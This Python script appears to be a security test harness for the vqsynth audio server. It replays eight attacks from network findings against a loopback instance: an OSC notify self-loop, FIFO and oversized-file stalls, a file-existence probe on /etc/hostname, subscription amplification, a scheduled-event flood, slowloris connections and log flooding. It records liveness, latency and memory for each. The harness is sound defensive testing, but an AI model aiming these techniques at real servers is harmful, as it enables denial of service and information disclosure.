"""What a stranger on the network can do to a running server: hand-written attacks, not fuzzing.

Each finding of the network issue is replayed against a real `vqsynth serve` (null audio with a
recording, a held drone note, loopback only) and reported with the same columns:
alive afterwards, the longest silence in the recorded drone, the worst /vqsynth/status round
trip during the attack, the server's RSS before / peak / after, and what the attack buys
(packets the server handled, datagrams or bytes out per byte in, files written, threads...).

    .venv/bin/python perf/abuse.py [--only 1,5] [--json perf/results/abuse.json]

Run it from another checkout (`git worktree add /tmp/old <commit>`) with `--server-root /tmp/old`
to measure a version before the fixes side by side.
"""

from __future__ import annotations

import argparse
import json
import os
import socket
import sys
import tempfile
import threading
import time
from pathlib import Path

import numpy as np

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "tests"))
sys.path.insert(0, str(HERE))
from faults import counters  # noqa: E402
from rig import OscProbe, sparse_wav  # noqa: E402


def osc(address, *args) -> bytes:
    from pythonosc.osc_message_builder import OscMessageBuilder

    b = OscMessageBuilder(address)
    for a in args:
        b.add_arg(a)
    return b.build().dgram


def bundle(timetag, *dgrams) -> bytes:
    import struct

    sec = int(timetag) + 2208988800
    frac = int((timetag % 1) * (1 << 32))
    body = b"".join(struct.pack(">i", len(d)) + d for d in dgrams)
    return b"#bundle\x00" + struct.pack(">II", sec, frac) + body


class Served:
    """A server from `root` (this checkout or an older one), recording its output, a drone held."""

    def __init__(self, root, model, workdir, extra=(), discovery=False):
        import subprocess

        self.record = Path(workdir) / "out.wav"
        self.learn_file = Path(workdir) / "learned.toml"
        helptext = subprocess.run([sys.executable, "-m", "vqsynth", "serve", "--help"], cwd=root,
                                  capture_output=True, text=True).stdout
        self.files = Path(workdir) / "files"
        self.files.mkdir(exist_ok=True)
        args = ["--audio", "file", "--record", str(self.record), "--no-midi",
                "--learn-file", str(self.learn_file), *extra] + ([] if discovery else ["--no-discovery"])
        if "--files" in helptext:
            args += ["--files", str(self.files)]
        cmd = [sys.executable, "-m", "vqsynth", "serve", "--model", str(model), "--osc-port", "0", *args]
        self.proc = subprocess.Popen(cmd, cwd=root, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        self.lines = []
        ready = threading.Event()

        def read():
            for line in self.proc.stdout:
                self.lines.append(line)
                if line.startswith("vqsynth ready"):
                    self.port = int(line.rsplit(":", 1)[1])
                    ready.set()
        threading.Thread(target=read, daemon=True).start()
        if not ready.wait(60):
            self.proc.kill()
            raise RuntimeError("server did not start:\n" + "".join(self.lines))
        import psutil

        self.ps = psutil.Process(self.proc.pid)
        self.rss = [self.ps.memory_info().rss]
        self.rtt = []
        self.running = True
        self.probe = OscProbe(self.port)
        self.probe.send_message("/vqsynth/note/on", [48, 100])  # the drone
        time.sleep(0.5)
        self.t_attack = time.monotonic()
        self.watch = threading.Thread(target=self._watch, daemon=True)
        self.watch.start()

    def _watch(self):
        probe = OscProbe(self.port)
        while self.running:
            t0 = time.perf_counter()
            try:
                probe.ask("/vqsynth/status", reply="/status.reply")
                self.rtt.append(time.perf_counter() - t0)
            except AssertionError:
                self.rtt.append(float("inf"))
            try:
                self.rss.append(self.ps.memory_info().rss)
            except Exception:
                break
            time.sleep(0.1)
        probe.close()

    def finish(self) -> dict:
        self.running = False
        self.watch.join(5)
        alive = self.proc.poll() is None
        try:
            c = counters(self.port) if alive else {}
        except AssertionError:
            alive, c = False, {}
        rss_after = self.ps.memory_info().rss if alive else None
        self.probe.close()
        self.proc.terminate()
        try:
            self.proc.wait(15)
        except Exception:
            self.proc.kill()
        gap = longest_gap_ms(self.record)
        mib = 1 << 20
        return {"alive": alive, "longest_gap_ms": gap,
                "status_rtt_max_ms": round(1e3 * max(self.rtt), 1) if self.rtt else None,
                "rss_mib": [round(self.rss[0] / mib, 1), round(max(self.rss) / mib, 1),
                            round(rss_after / mib, 1) if rss_after else None],
                "log_lines": len(self.lines), "counters": c}


def longest_gap_ms(path) -> float | None:
    import soundfile as sf

    try:
        x, sr = sf.read(str(path))
    except Exception:
        return None
    x = x if x.ndim == 1 else x[:, 0]
    loud = np.flatnonzero(np.abs(x) > 1e-5)
    if loud.size < 2:
        return None
    x = x[loud[0]:loud[-1]]
    quiet = np.abs(x) <= 1e-5
    edges = np.diff(np.concatenate([[0], quiet.astype(np.int8), [0]]))
    runs = np.flatnonzero(edges == -1) - np.flatnonzero(edges == 1)
    return round(1e3 * (runs.max() if runs.size else 0) / sr, 1)


def sock():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    s.settimeout(0.05)
    return s


def drain(s, seconds):
    n = b = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            n, b = n + 1, b + len(s.recv(65535))
        except (socket.timeout, TimeoutError):
            pass
    return n, b


# ------------------------------------------------------------------ the findings

def a1_loop(srv):
    """One datagram: /vqsynth/notify 1 0.5 <the server's own port>."""
    before = counters(srv.port).get("osc.packets", 0)
    s = sock()
    s.sendto(osc("/vqsynth/notify", 1, 0.5, srv.port), ("127.0.0.1", srv.port))
    time.sleep(3.0)
    s.sendto(osc("/vqsynth/notify", 0), ("127.0.0.1", srv.port))
    time.sleep(2.0)
    after = counters(srv.port).get("osc.packets", 0)
    return {"server_packets_per_s": round((after - before) / 5.0, 1), "bytes_in": 28}


def a2_files(srv):
    """/vqsynth/tokens/wav on a FIFO nobody writes, on '-', on a 1,024-channel sparse header, and
    one bundle of ten 2-minute WAVs."""
    import soundfile as sf

    fifo = srv.files / "fifo.wav"
    os.mkfifo(fifo)
    huge = sparse_wav(srv.files / "huge.wav")
    longs = []
    for k in range(10):
        p = srv.files / f"long{k}.wav"
        sf.write(p, 0.1 * np.random.default_rng(k).standard_normal(120 * 16000).astype(np.float32), 16000)
        longs.append(p)
    s = sock()
    for path in (str(fifo), "-", str(huge)):
        s.sendto(osc("/vqsynth/tokens/wav", path), ("127.0.0.1", srv.port))
    s.sendto(bundle(time.time(), *[osc("/vqsynth/tokens/wav", str(p)) for p in longs]), ("127.0.0.1", srv.port))
    time.sleep(10.0)
    threading.Thread(target=lambda: open(fifo, "wb").close(), daemon=True).start()  # unblock an old server
    return {}


def a3_probe(srv):
    """Does the answer tell an existing file from a missing one?"""
    from pythonosc.osc_message import OscMessage

    s = sock()
    s.settimeout(3.0)
    why = []
    for path in ("/etc/hostname", "/no/such/file"):
        s.sendto(osc("/vqsynth/tokens/wav", path), ("127.0.0.1", srv.port))
        try:
            why.append(str(OscMessage(s.recv(65535)).params[-1]).replace(path, "PATH"))
        except (socket.timeout, TimeoutError):
            why.append("(no answer)")
    return {"answers": why, "existing_told_from_missing": why[0] != why[1]}


def a4_learn(srv):
    """/vqsynth/learn volume then /vqsynth/cc 7 0 from the network: is the mapping file written?"""
    s = sock()
    s.sendto(osc("/vqsynth/learn", "volume"), ("127.0.0.1", srv.port))
    time.sleep(0.3)
    s.sendto(osc("/vqsynth/cc", 7, 0), ("127.0.0.1", srv.port))
    time.sleep(1.0)
    return {"mapping_file_written_from_127.0.0.1": srv.learn_file.exists(),
            "note": "from loopback, which --allow-writes local permits; a LAN host is refused (tests/test_osc_loops.py)"}


def a5_amplify(srv, subscribers=500):
    """Many subscriptions, and the bytes a notify and a counters request answer per byte in."""
    socks = [sock() for _ in range(subscribers)]
    for s in socks:
        s.sendto(osc("/vqsynth/notify", 1, 100), ("127.0.0.1", srv.port))
    time.sleep(1.0)
    got = [0]
    stop = time.monotonic() + 3.0

    def count(group):
        while time.monotonic() < stop:
            for s in group:
                try:
                    s.setblocking(False)
                    while True:
                        s.recv(65535)
                        got[0] += 1
                except (BlockingIOError, OSError):
                    pass
            time.sleep(0.005)
    count(socks)
    for s in socks:
        s.sendto(osc("/vqsynth/notify", 0), ("127.0.0.1", srv.port))
        s.close()
    one = sock()
    msg = osc("/vqsynth/notify", 1, 0.5)
    one.sendto(msg, ("127.0.0.1", srv.port))
    n, b = drain(one, 1.0)
    one.sendto(osc("/vqsynth/notify", 0), ("127.0.0.1", srv.port))
    c = osc("/vqsynth/counters")
    two = sock()
    two.sendto(c, ("127.0.0.1", srv.port))
    n2, b2 = drain(two, 0.5)
    return {"subscribers_tried": subscribers, "datagrams_out_per_s": round(got[0] / 3.0),
            "notify_bytes_out_per_byte_in": round(b / len(msg), 1),
            "counters_bytes_out_per_byte_in": round(b2 / len(c), 1)}


def a6_schedule(srv, events=100_000):
    """Timed note-ons 58 s ahead from one host."""
    s = sock()
    later = time.time() + 58.0
    for k in range(events):
        s.sendto(bundle(later + k * 1e-5, osc("/vqsynth/note/on", 60, 100)), ("127.0.0.1", srv.port))
        if k % 2000 == 0:
            time.sleep(0.01)
    time.sleep(2.0)
    c = counters(srv.port)
    s.sendto(osc("/vqsynth/cc", 123, 0), ("127.0.0.1", srv.port))
    time.sleep(1.0)
    return {"events_sent": events, "over_quota": c.get("osc.over quota", 0),
            "scheduled_refused": c.get("engine.scheduled_refused", 0)}


def a7_slowloris(srv, connections=300):
    """TCP connections to OSCQuery that send half a header and wait."""
    import re

    line = next((x for x in srv.lines if x.startswith("vqsynth ready")), "")
    m = re.search(r"OSCQuery http://[\d.]+:(\d+)", line)
    if not m:
        return {"attack_error": "no OSCQuery port in the ready line"}
    conns, threads = [], [srv.ps.num_threads()]
    for _ in range(connections):
        try:
            c = socket.create_connection(("127.0.0.1", int(m.group(1))), timeout=2)
            c.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
            conns.append(c)
        except OSError:
            break
    end = time.monotonic() + 8.0
    while time.monotonic() < end:
        threads.append(srv.ps.num_threads())
        time.sleep(0.2)
    for c in conns:
        c.close()
    return {"connections_opened": len(conns), "server_threads_before_peak": [threads[0], max(threads)]}


def a8_log(srv, sweep=4096):
    """An NRPN sweep over unmapped numbers: how many log lines?"""
    s = sock()
    before = len(srv.lines)
    for n in range(sweep):
        for cc, v in ((99, n // 128), (98, n % 128), (6, 64)):
            s.sendto(osc("/vqsynth/cc", cc, v), ("127.0.0.1", srv.port))
        if n % 256 == 0:
            time.sleep(0.01)
    time.sleep(1.0)
    return {"nrpns_swept": sweep, "log_lines_written": len(srv.lines) - before}


ATTACKS = {1: a1_loop, 2: a2_files, 3: a3_probe, 4: a4_learn, 5: a5_amplify, 6: a6_schedule, 7: a7_slowloris,
           8: a8_log}


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--server-root", default=str(HERE.parent), help="the checkout whose server is attacked")
    ap.add_argument("--model", default=str(HERE.parent / "tests" / "data"), help="model folder [a test model]")
    ap.add_argument("--only", default=None, help="comma-separated finding numbers")
    ap.add_argument("--json", default=None)
    args = ap.parse_args()
    model = args.model
    if not (Path(model) / "model.json").exists():
        from vqsynth.train.export import make_test_model

        model = make_test_model(Path(tempfile.mkdtemp(prefix="vqs-abuse-")) / "model")
    only = [int(x) for x in args.only.split(",")] if args.only else list(ATTACKS)
    out = {}
    for k in only:
        with tempfile.TemporaryDirectory(prefix=f"vqs-abuse-{k}-") as work:
            srv = Served(args.server_root, model, work, discovery=k == 7)
            try:
                found = ATTACKS[k](srv)
            except Exception as exc:  # the attack itself failed: say so, keep going
                found = {"attack_error": repr(exc)}
            out[k] = {"attack": ATTACKS[k].__doc__.split("\n")[0], **found, **srv.finish()}
            print(json.dumps({k: {x: y for x, y in out[k].items() if x != "counters"}}), flush=True)
    if args.json:
        Path(args.json).parent.mkdir(parents=True, exist_ok=True)
        Path(args.json).write_text(json.dumps(out, indent=1, default=str) + "\n")


if __name__ == "__main__":
    main()
